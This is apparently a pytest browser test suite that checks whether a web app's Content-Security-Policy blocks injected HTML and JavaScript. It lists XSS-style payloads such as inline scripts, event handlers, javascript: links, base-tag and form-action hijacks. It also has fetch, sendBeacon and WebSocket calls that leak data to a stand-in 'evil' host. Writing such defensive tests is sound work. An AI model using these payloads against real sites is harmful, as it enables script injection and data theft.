"""What the policy keeps from happening if escaping failed once and a stranger's markup stood in a page: Chromium obeys
the real headers, with a real page. Needs no sandbox."""

import pytest

from model_approval.pages import web
from tests.browser.site import EVIL, OURS, Site

INJECTED = {
    "script": ("<script>document.body.dataset.pwned = 1</script>", "script-src-elem"),
    "module": ('<script type="module">document.body.dataset.pwned = 1</script>', "script-src-elem"),
    "script-elsewhere": (f'<script src="{EVIL}x.js"></script>', "script-src-elem"),
    "script-here": (f'<script src="{OURS}x.js"></script>', "script-src-elem"),
    "script-data": ('<script src="data:text/javascript,document.body.dataset.pwned = 1"></script>', "script-src-elem"),
    "handler": ('<details open ontoggle="document.body.dataset.pwned = 1"><p>', "script-src-attr"),
    "svg-handler": ('<svg onload="document.body.dataset.pwned = 1"></svg>', "script-src-attr"),
    "link-script": ('<a id="go" href="javascript:document.body.dataset.pwned = 1">go</a>', "script-src-elem"),
    "style": ("<style>h1 { color: rgb(1, 2, 3) }</style>", "style-src-elem"),
    "style-attribute": ('<p style="position: fixed; inset: 0">over it all', "style-src-attr"),
    "style-elsewhere": (f'<link rel="stylesheet" href="{EVIL}x.css">', "style-src-elem"),
    "image": (f'<img alt="" src="{EVIL}leak.png">', "img-src"),
    "frame": (f'<iframe src="{EVIL}"></iframe>', "frame-src"),
    "own-frame": (f'<iframe src="{OURS}requests/dev/churn/1"></iframe>', "frame-src"),
    "object": (f'<object data="{EVIL}x.pdf"></object>', "object-src"),
    "embed": (f'<embed src="{EVIL}x.pdf">', "object-src"),
    "media": (f'<video src="{EVIL}x.mp4"></video>', "media-src"),
    "prefetch": (f'<link rel="prefetch" href="{EVIL}next">', "default-src"),
    "base": (f'<base href="{EVIL}"><a id="see" href="/x">relative</a>', "base-uri"),
    "form": (f'<form action="{EVIL}" method="post"><button id="go">Go</button></form>', "form-action"),
    "button": (f'<form action="/" method="post"><button id="go" formaction="{EVIL}">Go</button></form>', "form-action"),
    "form-script": (
        '<form action="javascript:document.body.dataset.pwned = 1"><button id="go">Go</button></form>',
        "form-action",
    ),
}
SCRIPTED = {
    "eval": ("setTimeout('document.body.dataset.pwned = 1', 0)", "script-src"),
    "fetch": (f"fetch('{EVIL}leak').catch(() => {{}})", "connect-src"),
    "fetch-here": (f"fetch('{OURS}leak').catch(() => {{}})", "connect-src"),
    "beacon": (f"navigator.sendBeacon('{EVIL}leak', 'x')", "connect-src"),
    "socket": ("try { new WebSocket('wss://evil.example.net/') } catch {}", "connect-src"),
    "events": (f"new EventSource('{EVIL}leak')", "connect-src"),
    "worker": (f"try {{ new Worker('{OURS}worker.js') }} catch {{}}", "worker-src"),
}
"""What a script could do that got in all the same, such as that of a browser extension."""


def test_the_page_itself_breaks_no_rule(site: Site) -> None:
    site.show()
    site.page.wait_for_timeout(100)
    assert site.page.evaluate("window.violations") == []
    assert site.is_sound()


@pytest.mark.parametrize("name", INJECTED)
def test_what_is_injected_does_nothing(site: Site, name: str) -> None:
    markup, directive = INJECTED[name]
    site.show(markup)
    site.press_what_is_injected()
    assert site.blocks(directive)
    assert site.is_sound()
    colour, position = site.page.evaluate(
        "[getComputedStyle(document.querySelector('h1')).color, getComputedStyle(document.querySelector('p')).position]"
    )
    assert (colour == "rgb(1, 2, 3)", position) == (False, "static")


@pytest.mark.parametrize("name", ["script", "handler", "link-script", "script-elsewhere", "form", "frame", "image"])
def test_without_the_policy_it_would_do_something(site: Site, name: str) -> None:
    """So that the tests above tell of the policy, and not of markup that does nothing anywhere."""
    site.headers = {k: v for k, v in web.security_headers().items() if k != "Content-Security-Policy"}
    site.show(INJECTED[name][0])
    site.press_what_is_injected()
    site.page.wait_for_timeout(200)
    assert not site.is_sound()


def test_relative_links_keep_leading_here(site: Site) -> None:
    site.show(INJECTED["base"][0])
    assert site.page.evaluate("document.querySelector('#see').href") == f"{OURS}x"


def test_a_document_inside_of_the_page_inherits_the_policy(site: Site) -> None:
    site.show('<iframe srcdoc="<script>parent.document.body.dataset.pwned = 1</script>"></iframe>')
    site.page.wait_for_timeout(100)
    assert site.is_sound()


@pytest.mark.parametrize("name", SCRIPTED)
def test_not_even_a_script_reaches_anybody_or_makes_code_of_text(site: Site, name: str) -> None:
    script, directive = SCRIPTED[name]
    site.show()
    site.page.evaluate(f"() => {{ {script} }}")
    assert site.blocks(directive)
    assert site.is_sound()
